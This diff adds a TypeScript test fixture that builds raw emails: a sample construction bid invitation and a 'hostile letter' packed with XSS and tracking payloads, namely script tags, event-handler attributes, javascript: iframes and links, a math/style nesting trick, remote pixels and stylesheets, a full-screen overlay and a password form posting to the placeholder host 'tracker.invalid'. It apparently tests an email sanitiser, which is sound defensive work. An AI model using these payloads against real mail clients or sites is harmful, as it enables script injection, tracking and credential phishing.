@@ -1,0 +1,72 @@
+import { randomUUID } from 'node:crypto';
+
+interface Letter {
+  readonly from: string;
+  readonly subject: string;
+  readonly html: string;
+}
+
+const rawMessage = ({ from, subject, html }: Letter): string =>
+  [
+    `From: ${from}`,
+    'To: bids@cascade-interiors.example',
+    `Subject: ${subject}`,
+    `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
+    `Message-ID: <${randomUUID()}@mail.example>`,
+    'MIME-Version: 1.0',
+    'Content-Type: text/html; charset=utf-8',
+    'Content-Transfer-Encoding: base64',
+    '',
+    Buffer.from(html, 'utf8')
+      .toString('base64')
+      .replace(/(.{76})/g, '$1\r\n'),
+  ].join('\r\n');
+
+const page = 'https://app.buildingconnected.com/rfps/65e2aa10bc90de0012f4a771';
+
+/** An invitation as BuildingConnected sends it. */
+export const invitation = (name: string): string =>
+  rawMessage({
+    from: '"Imke Thorsen (Vale & Pember Builders)" <team@buildingconnected.com>',
+    subject: `Bid Invite: ${name} Project`,
+    html: `<table>
+<tr><td>Imke Thorsen from <b>Vale &amp; Pember Builders</b> has invited you to bid on</td></tr>
+<tr><td><a href="${page}/bid"><b>${name}: 09 29 00 Gypsum Board</b></a></td></tr>
+<tr><td><a href="${page}/bid">View this RFP &raquo;</a></td></tr>
+<tr><td><h3>Project Details</h3><b>Location: </b><span>640 Runway Rd, Moses Lake, WA 98837, United States</span><br>
+<b>Bid Due: </b><span>March 26, 2027</span><br><br><span>Offices and a break room inside an existing hangar.</span></td></tr>
+<tr><td><h3>Client Details</h3><b>Lead: Imke Thorsen</b><br>
+<span>Estimator &bull; +1 509-555-0151 &bull; <a href="mailto:ithorsen@valepember.example">ithorsen@valepember.example</a></span></td></tr>
+</table>`,
+  });
+
+/** Host that a message may try to reach; nobody answers there. */
+export const trackingHost = 'tracker.invalid';
+
+/** A message that tries to run code, to load, to lead away and to send a form. */
+export const hostileLetter = (subject: string): string => {
+  const away = `http://${trackingHost}`;
+  return rawMessage({
+    from: '"Eve <img src=x onerror=top.hacked=1>" <eve@mail.example>',
+    subject: `${subject} <script>top.hacked=1</script>`,
+    html: `<!doctype html><html><head><title>x</title>
+<meta http-equiv="refresh" content="0;url=${away}/refresh"><base href="${away}/">
+<link rel="stylesheet" href="${away}/style.css"><link rel="prefetch" href="${away}/prefetch">
+<style>@import url(${away}/import.css); body { background: url(${away}/background.png) } @font-face { font-family: x; src: url(${away}/font.woff2) } p { font-family: x }</style>
+<script>top.hacked = 1; fetch('${away}/script')</script></head>
+<body onload="top.hacked=1" background="${away}/body.png">
+<p>The text of the letter</p>
+<img src="x" onerror="top.hacked=1"><img src="${away}/pixel.gif" srcset="${away}/pixel2.gif 2x" width="1" height="1">
+<picture><source srcset="${away}/source.png"><img src="${away}/picture.png"></picture>
+<svg onload="top.hacked=1"><script>top.hacked=1</script><image href="${away}/svg.png"/><use href="${away}/use.svg#a"/></svg>
+<math><mtext><style><img src=x onerror=top.hacked=1></style></mtext></math>
+<iframe src="javascript:top.hacked=1"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>
+<object data="${away}/object"></object><embed src="${away}/embed">
+<video src="${away}/video" poster="${away}/poster.png" autoplay></video><audio src="${away}/audio" autoplay></audio>
+<div style="background-image:url('${away}/inline.png');position:fixed;inset:0;z-index:9999">Overlay</div>
+<form action="${away}/form" id="f"><input name="password" autofocus onfocus="top.hacked=1"><button>Send</button></form>
+<details open ontoggle="top.hacked=1"><summary>x</summary></details>
+<a href="javascript:top.hacked=1">run</a> <a href="${away}/link" target="_top">leave</a>
+</body></html>`,
+  });
+};
